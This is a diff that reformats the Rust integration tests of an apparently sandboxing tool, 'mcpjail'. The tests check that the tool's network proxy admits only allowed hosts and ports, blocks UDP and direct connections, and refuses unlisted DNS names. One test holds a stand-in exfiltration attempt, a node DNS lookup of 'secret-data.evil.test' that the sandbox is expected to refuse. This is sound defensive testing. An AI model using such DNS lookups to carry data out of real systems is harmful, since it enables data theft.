@@ -27,7 +27,10 @@ fn names_resolve() -> bool {
             .map(|mut a| a.any(|s| s.ip().is_loopback()))
             .unwrap_or(false)
     };
-    require(ok(ALLOWED) && ok(OTHER), "/etc/hosts entries for allowed.mcpjail.test and other.mcpjail.test (tests/run.sh adds them)")
+    require(
+        ok(ALLOWED) && ok(OTHER),
+        "/etc/hosts entries for allowed.mcpjail.test and other.mcpjail.test (tests/run.sh adds them)",
+    )
 }
 
 /// A plain HTTP server on the host's loopback that records every request line.
@@ -61,7 +64,11 @@ impl HttpServer {
                     }
                     s3.lock().unwrap().push(line.trim().to_string());
                     let body = "hello from the host\n";
-                    let _ = write!(c, "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}", body.len());
+                    let _ = write!(
+                        c,
+                        "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
+                        body.len()
+                    );
                 });
             }
         });
@@ -85,7 +92,17 @@ impl TlsServer {
         let cert = dir.join("cert.pem");
         let key = dir.join("key.pem");
         let st = Command::new("openssl")
-            .args(["req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1", "-subj", &format!("/CN={ALLOWED}")])
+            .args([
+                "req",
+                "-x509",
+                "-newkey",
+                "rsa:2048",
+                "-nodes",
+                "-days",
+                "1",
+                "-subj",
+                &format!("/CN={ALLOWED}"),
+            ])
             .args(["-addext", &format!("subjectAltName=DNS:{ALLOWED}")])
             .arg("-keyout")
             .arg(&key)
@@ -116,7 +133,9 @@ s.serve_forever()
             .spawn()
             .unwrap();
         let mut line = String::new();
-        BufReader::new(child.stdout.as_mut().unwrap()).read_line(&mut line).unwrap();
+        BufReader::new(child.stdout.as_mut().unwrap())
+            .read_line(&mut line)
+            .unwrap();
         TlsServer {
             port: line.trim().parse().unwrap(),
             cert,
@@ -143,8 +162,16 @@ fn setup(base: &str, allow_private: bool) -> Setup {
     let dir = scratch();
     let http = HttpServer::start();
     let tls = TlsServer::start(dir.path());
-    std::fs::set_permissions(dir.path(), std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
-    let private = if allow_private { "  allow_private: [127.0.0.0/8]\n" } else { "" };
+    std::fs::set_permissions(
+        dir.path(),
+        std::os::unix::fs::PermissionsExt::from_mode(0o755),
+    )
+    .unwrap();
+    let private = if allow_private {
+        "  allow_private: [127.0.0.0/8]\n"
+    } else {
+        ""
+    };
     let profile = profile(
         dir.path(),
         "proxied",
@@ -155,12 +182,23 @@ fn setup(base: &str, allow_private: bool) -> Setup {
             tls.port
         ),
     );
-    Setup { dir, http, tls, profile }
+    Setup {
+        dir,
+        http,
+        tls,
+        profile,
+    }
 }
 
 /// Runs `args` in the sandbox with the setup's profile; returns (code, stdout, stderr).
 fn inside(s: &Setup, args: &[&str]) -> (i32, String, String) {
-    let mut all = vec!["-p", s.profile.to_str().unwrap(), "--log-level", "info", "--"];
+    let mut all = vec![
+        "-p",
+        s.profile.to_str().unwrap(),
+        "--log-level",
+        "info",
+        "--",
+    ];
     all.extend_from_slice(args);
     let mut c = run_cmd(&all);
     c.env("XDG_STATE_HOME", s.dir.path().join("state"));
@@ -181,23 +219,48 @@ fn curl_through_the_proxy_reaches_only_allowed_hosts_and_ports() {
     let url = format!("http://{ALLOWED}:{}/via-proxy", s.http.port);
     let (code, out, err) = inside(&s, &["curl", "-sS", &url]);
     assert_eq!((code, out.as_str()), (0, "hello from the host\n"), "{err}");
-    assert!(err.contains(&format!("proxy: connected to {ALLOWED}:{}", s.http.port)), "{err}");
+    assert!(
+        err.contains(&format!("proxy: connected to {ALLOWED}:{}", s.http.port)),
+        "{err}"
+    );
 
     // TLS passes through untouched: curl verifies the host server's own certificate.
     let tls_url = format!("https://{ALLOWED}:{}/", s.tls.port);
-    let (code, out, err) = inside(&s, &["curl", "-sS", "--cacert", s.tls.cert.to_str().unwrap(), &tls_url]);
+    let (code, out, err) = inside(
+        &s,
+        &[
+            "curl",
+            "-sS",
+            "--cacert",
+            s.tls.cert.to_str().unwrap(),
+            &tls_url,
+        ],
+    );
     assert_eq!((code, out.as_str()), (0, "hello over tls\n"), "{err}");
 
     // SOCKS5 with remote name resolution.
     let socks = format!("http://{ALLOWED}:{}/via-socks", s.http.port);
-    let (code, out, err) = inside(&s, &["sh", "-c", &format!("curl -sS --proxy \"$ALL_PROXY\" {socks}")]);
+    let (code, out, err) = inside(
+        &s,
+        &[
+            "sh",
+            "-c",
+            &format!("curl -sS --proxy \"$ALL_PROXY\" {socks}"),
+        ],
+    );
     assert_eq!((code, out.as_str()), (0, "hello from the host\n"), "{err}");
 
     // Another name for the same address, another port, and a direct IP are refused.
     let other = format!("http://{OTHER}:{}/refused", s.http.port);
     let (code, _, err) = inside(&s, &["curl", "-sS", "-f", &other]);
     assert_ne!(code, 0);
-    assert!(err.contains(&format!("proxy: refused {OTHER}:{}: not in network.allow", s.http.port)), "{err}");
+    assert!(
+        err.contains(&format!(
+            "proxy: refused {OTHER}:{}: not in network.allow",
+            s.http.port
+        )),
+        "{err}"
+    );
     let wrong_port = format!("http://{ALLOWED}:{}/", s.tls.port + 1);
     let (code, _, err) = inside(&s, &["curl", "-sS", "-f", &wrong_port]);
     assert_ne!(code, 0);
@@ -206,8 +269,16 @@ fn curl_through_the_proxy_reaches_only_allowed_hosts_and_ports() {
     let (code, _, _) = inside(&s, &["curl", "-sS", "-f", "--noproxy", "*", &direct]);
     assert_ne!(code, 0);
     let seen = s.http.requests();
-    assert!(seen.iter().all(|r| !r.contains("refused") && !r.contains("direct")), "{seen:?}");
-    assert_eq!(seen.iter().filter(|r| r.contains("/via-")).count(), 2, "{seen:?}");
+    assert!(
+        seen.iter()
+            .all(|r| !r.contains("refused") && !r.contains("direct")),
+        "{seen:?}"
+    );
+    assert_eq!(
+        seen.iter().filter(|r| r.contains("/via-")).count(),
+        2,
+        "{seen:?}"
+    );
 }
 
 #[test]
@@ -236,14 +307,33 @@ fn clients_that_ignore_proxy_variables_still_reach_allowed_names() {
     all.push(&extra);
     all.extend_from_slice(&["--", "node", "-e", &tls_script]);
     let out = output_within(run_cmd(&all), T);
-    assert_eq!(String::from_utf8_lossy(&out.stdout), "hello over tls\n", "{}", String::from_utf8_lossy(&out.stderr));
+    assert_eq!(
+        String::from_utf8_lossy(&out.stdout),
+        "hello over tls\n",
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
 
     // A name that is not allowed does not even resolve, so DNS cannot carry data out.
-    let (code, out, err) = inside(&s, &["node", "-e", "require('dns').lookup('secret-data.evil.test', (e) => { console.log(e ? e.code : 'resolved'); })"]);
+    let (code, out, err) = inside(
+        &s,
+        &[
+            "node",
+            "-e",
+            "require('dns').lookup('secret-data.evil.test', (e) => { console.log(e ? e.code : 'resolved'); })",
+        ],
+    );
     assert_eq!((code, out.trim()), (0, "ENOTFOUND"), "{err}");
-    assert!(err.contains("refused DNS lookup of secret-data.evil.test"), "{err}");
+    assert!(
+        err.contains("refused DNS lookup of secret-data.evil.test"),
+        "{err}"
+    );
     let seen = s.http.requests();
-    assert!(seen.iter().any(|r| r.contains("/transparent-curl")) && seen.iter().any(|r| r.contains("/transparent-node")), "{seen:?}");
+    assert!(
+        seen.iter().any(|r| r.contains("/transparent-curl"))
+            && seen.iter().any(|r| r.contains("/transparent-node")),
+        "{seen:?}"
+    );
 }
 
 #[test]
@@ -253,19 +343,41 @@ fn python_clients_use_the_proxy() {
     }
     let s = setup("python", true);
     let url = format!("http://{ALLOWED}:{}/urllib", s.http.port);
-    let (code, out, err) = inside(&s, &["python3", "-c", &format!("import urllib.request; print(urllib.request.urlopen('{url}').read().decode(), end='')")]);
+    let (code, out, err) = inside(
+        &s,
+        &[
+            "python3",
+            "-c",
+            &format!(
+                "import urllib.request; print(urllib.request.urlopen('{url}').read().decode(), end='')"
+            ),
+        ],
+    );
     assert_eq!((code, out.as_str()), (0, "hello from the host\n"), "{err}");
     let other = format!("http://{OTHER}:{}/urllib", s.http.port);
     let (code, out, _) = inside(
         &s,
-        &["python3", "-c", &format!("import urllib.request\ntry:\n urllib.request.urlopen('{other}')\nexcept Exception as e:\n print('refused', getattr(e, 'code', e))")],
+        &[
+            "python3",
+            "-c",
+            &format!(
+                "import urllib.request\ntry:\n urllib.request.urlopen('{other}')\nexcept Exception as e:\n print('refused', getattr(e, 'code', e))"
+            ),
+        ],
     );
     assert_eq!((code, out.trim()), (0, "refused 403"));
 
     let venv = venv().join("bin/python");
-    if require(venv.exists(), "the integration Python environment with httpx (.ci/run installs it)") {
+    if require(
+        venv.exists(),
+        "the integration Python environment with httpx (.ci/run installs it)",
+    ) {
         let venv = venv.to_str().unwrap();
-        let code_src = format!("import httpx; print(httpx.get('https://{ALLOWED}:{}/', verify='{}').text, end='')", s.tls.port, s.tls.cert.display());
+        let code_src = format!(
+            "import httpx; print(httpx.get('https://{ALLOWED}:{}/', verify='{}').text, end='')",
+            s.tls.port,
+            s.tls.cert.display()
+        );
         let (code, out, err) = inside(&s, &[venv, "-c", &code_src]);
         assert_eq!((code, out.as_str()), (0, "hello over tls\n"), "{err}");
     }
@@ -294,18 +406,33 @@ fn udp_and_other_traffic_has_no_route() {
     }
     let s = setup("default", true);
     let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
-    udp.set_read_timeout(Some(Duration::from_millis(200))).unwrap();
+    udp.set_read_timeout(Some(Duration::from_millis(200)))
+        .unwrap();
     let p = probe();
     let port = udp.local_addr().unwrap().port().to_string();
-    let (_, out, _) = inside(&s, &[p.to_str().unwrap(), "udp", "10.255.255.53", "53", "x"]);
+    let (_, out, _) = inside(
+        &s,
+        &[p.to_str().unwrap(), "udp", "10.255.255.53", "53", "x"],
+    );
     assert!(out.starts_with("ERR "), "{out}");
     let _ = inside(&s, &[p.to_str().unwrap(), "udp", "127.0.0.1", &port, "x"]);
     let mut b = [0u8; 8];
-    assert!(udp.recv_from(&mut b).is_err(), "a datagram reached the host");
+    assert!(
+        udp.recv_from(&mut b).is_err(),
+        "a datagram reached the host"
+    );
     // The proxy listens only inside the sandbox's namespace.
     let tcp = std::fs::read_to_string("/proc/net/tcp").unwrap();
-    assert!(!tcp.lines().any(|l| l.contains(":0C38 ") && l.contains(" 0A ")), "something listens on the host's port 3128");
-    let _ = TcpStream::connect_timeout(&"127.0.0.1:3128".parse().unwrap(), Duration::from_millis(200)).map(|_| panic!("the proxy answered on the host"));
+    assert!(
+        !tcp.lines()
+            .any(|l| l.contains(":0C38 ") && l.contains(" 0A ")),
+        "something listens on the host's port 3128"
+    );
+    let _ = TcpStream::connect_timeout(
+        &"127.0.0.1:3128".parse().unwrap(),
+        Duration::from_millis(200),
+    )
+    .map(|_| panic!("the proxy answered on the host"));
 }
 
 #[test]
@@ -316,20 +443,56 @@ fn a_summary_is_logged_at_exit() {
     let s = setup("default", true);
     let url = format!("http://{ALLOWED}:{}/", s.http.port);
     let other = format!("http://{OTHER}:{}/", s.http.port);
-    let (_, _, err) = inside(&s, &["sh", "-c", &format!("curl -s {url} >/dev/null; curl -s {other} >/dev/null; curl -s {other} >/dev/null")]);
-    assert!(err.contains(&format!("proxy summary: allowed {ALLOWED}:{}: 1 connection", s.http.port)), "{err}");
-    assert!(err.contains(&format!("proxy summary: refused {OTHER}:{}: 2 attempts (not in network.allow)", s.http.port)), "{err}");
+    let (_, _, err) = inside(
+        &s,
+        &[
+            "sh",
+            "-c",
+            &format!(
+                "curl -s {url} >/dev/null; curl -s {other} >/dev/null; curl -s {other} >/dev/null"
+            ),
+        ],
+    );
+    assert!(
+        err.contains(&format!(
+            "proxy summary: allowed {ALLOWED}:{}: 1 connection",
+            s.http.port
+        )),
+        "{err}"
+    );
+    assert!(
+        err.contains(&format!(
+            "proxy summary: refused {OTHER}:{}: 2 attempts (not in network.allow)",
+            s.http.port
+        )),
+        "{err}"
+    );
 }
 
 #[test]
 fn npx_downloads_through_the_proxy() {
     // The npm registry is the one place this machine may reach; a test that needs it says so.
-    if !require(("registry.npmjs.org", 443).to_socket_addrs().is_ok(), "the npm registry (DNS)") {
+    if !require(
+        ("registry.npmjs.org", 443).to_socket_addrs().is_ok(),
+        "the npm registry (DNS)",
+    ) {
         return;
     }
     let dir = scratch();
-    let prof = profile(dir.path(), "npx", "extends: [node]\nnetwork:\n  mode: proxy\n  allow: [registry.npmjs.org]\n");
-    let mut c = run_cmd(&["-p", prof.to_str().unwrap(), "--", "npx", "-y", "cowsay@1.6.0", "sandboxed"]);
+    let prof = profile(
+        dir.path(),
+        "npx",
+        "extends: [node]\nnetwork:\n  mode: proxy\n  allow: [registry.npmjs.org]\n",
+    );
+    let mut c = run_cmd(&[
+        "-p",
+        prof.to_str().unwrap(),
+        "--",
+        "npx",
+        "-y",
+        "cowsay@1.6.0",
+        "sandboxed",
+    ]);
     // A fresh state directory: the package really is downloaded.
     c.env("XDG_STATE_HOME", dir.path().join("state"));
     for k in ["NODE_EXTRA_CA_CERTS", "SSL_CERT_FILE"] {
@@ -339,6 +502,10 @@ fn npx_downloads_through_the_proxy() {
     }
     let out = output_within(c, Duration::from_secs(180));
     let o = String::from_utf8_lossy(&out.stdout);
-    assert!(o.contains("< sandboxed >"), "stdout: {o}\nstderr: {}", String::from_utf8_lossy(&out.stderr));
+    assert!(
+        o.contains("< sandboxed >"),
+        "stdout: {o}\nstderr: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
     assert!(dir.path().join("state/mcpjail/npx/npm-cache/_npx").is_dir());
 }
